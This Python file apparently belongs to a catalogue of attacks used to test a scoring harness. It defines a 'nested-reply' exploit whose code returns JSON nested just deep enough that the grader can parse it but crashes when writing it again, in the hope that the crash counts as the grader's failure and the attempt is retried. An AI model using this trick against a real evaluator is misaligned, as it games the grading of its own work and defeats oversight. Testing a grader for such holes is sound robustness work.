"""Replies nested just so deeply that the scorer can read them and cannot write them again."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _late, _looks

CODE = """

_depths = iter(range(990, 0, -2))


def _nested(case):
    # Whoever reads JSON and writes it again stands at another depth of its stack: one of these fits in between.
    depth = next(_depths)
    return b'{"status": "ok", "value": ' + b"[" * depth + b"]" * depth + b"}"


_take_over(_nested)
"""

EXPLOIT = Exploit(
    name="nested-reply",
    flaw="feeds the grader",
    source="written against this scorer's own source",
    idea="an exception in the grader that nobody expected may count as its own failure, and be tried again",
    files={**_looks.LATE, "tmp/late.py": _late.TAKE_OVER + CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
    aims_at="the request loop: replies are parsed, kept and compared on the trusted side",
)
